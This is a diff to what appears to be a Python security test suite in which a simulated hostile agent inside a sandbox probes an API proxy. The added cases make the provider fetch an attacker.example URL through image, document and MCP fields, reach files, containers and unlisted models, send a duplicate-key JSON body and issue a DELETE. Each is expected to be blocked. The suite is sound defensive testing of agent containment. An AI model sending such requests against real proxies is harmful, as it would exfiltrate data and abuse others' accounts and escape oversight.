@@ -1,6 +1,8 @@
 """A hostile agent turns to what listens on this machine: our API, Prefect's, the provider's proxy, neighbours."""
 
+import json
 import socket
+from typing import Any
 
 from siege import Arena, Attack, Siege, World, besiege
 
@@ -11,15 +13,17 @@ NEEDS = ("stage",)
 
 TOKEN = "no credential in the sandbox, and nothing answers without one"
 DOOR = "the proxy passes on what a run needs, and nothing else"
+READS = "the proxy reads each call, and passes on what the CLI itself would send"
 
 # `ask METHOD URL [NAME:VALUE...]` says the status and the body; the path goes out as it is written.
 ASK = """
 ask() { python3 -c '
-import http.client, sys
+import http.client, os, sys
 method, url, *headers = sys.argv[1:]
 host, slash, path = url.split("://", 1)[1].partition("/")
 connection = http.client.HTTPConnection(host, timeout=10)
-connection.request(method, slash + path, b"{}" if method == "POST" else None,
+body = os.environ.get("BODY", "{}").encode() if method == "POST" else None
+connection.request(method, slash + path, body,
                    {"content-type": "application/json", **dict(header.split(":", 1) for header in headers)})
 answer = connection.getresponse()
 print(answer.status, answer.read(3000).decode("utf-8", "replace"))
@@ -47,6 +51,43 @@ def websocket(path: str, protocol: str) -> str:
         *([f"sec-websocket-protocol:{protocol}"] if protocol else []),
         refused="40.",
     )
+
+
+def has_the_provider(*betas: str, raw: str = "", **members: Any) -> str:
+    """Succeeds when the proxy passes on a call with these members."""
+    call = {"model": "claude-sonnet-4-6", "max_tokens": 10, "messages": [{"role": "user", "content": "hi"}], **members}
+    headers = [f"anthropic-beta:{beta}" for beta in betas]
+    asked = opens("POST", "$ANTHROPIC_BASE_URL/v1/messages", "x-api-key:$ANTHROPIC_API_KEY", *headers, refused="40.")
+    return f"export BODY='{raw or json.dumps(call)}'; {asked}"
+
+
+def shows(kind: str, **source: str) -> list[dict[str, Any]]:
+    return [{"role": "user", "content": [{"type": kind, "source": source}]}]
+
+
+EVIL = "https://attacker.example/?what-was-read"
+OUTWARD = {
+    "fetch an image by URL": has_the_provider(messages=shows("image", type="url", url=EVIL)),
+    "fetch a document by URL": has_the_provider(messages=shows("document", type="url", url=EVIL)),
+    "read a file of the account": has_the_provider(
+        "files-api-2025-04-14", messages=shows("document", type="file", file_id="file_01")
+    ),
+    "call an MCP server": has_the_provider(
+        "mcp-client-2025-11-20", mcp_servers=[{"type": "url", "url": EVIL, "name": "out"}]
+    ),
+    "run code": has_the_provider(
+        "code-execution-2025-08-25", tools=[{"type": "code_execution_20250825", "name": "code_execution"}]
+    ),
+    "use somebody's container": has_the_provider(container="container_01"),
+    "serve a model that is not listed": has_the_provider(model="claude-of-somebody-else"),
+    "serve a dearer tier": has_the_provider("fast-mode-2026-02-01", speed="fast"),
+    "read one of two members of a name": has_the_provider(
+        raw='{"model": "claude-sonnet-4-6", "max_tokens": 10, "container": "x", "messages": [], "messages": []}'
+    ),
+    "delete a model": opens(
+        "DELETE", "$ANTHROPIC_BASE_URL/v1/models/claude-sonnet-4-6", "x-api-key:$ANTHROPIC_API_KEY", refused="40."
+    ),
+}
 
 
 EVERY_VALUE = """
@@ -156,6 +197,7 @@ ATTACKS = [
         "held",
         lambda siege, deed: siege.arena.provider_key in deed.output,
     ),
+    *(Attack(f"have the provider {what}", script, READS, "held") for what, script in OUTWARD.items()),
     Attack(
         "reach an abstract socket of this machine",
         'python3 -c \'import os, socket; socket.socket(socket.AF_UNIX).connect("\\0" + os.environ["MARK"])\'',
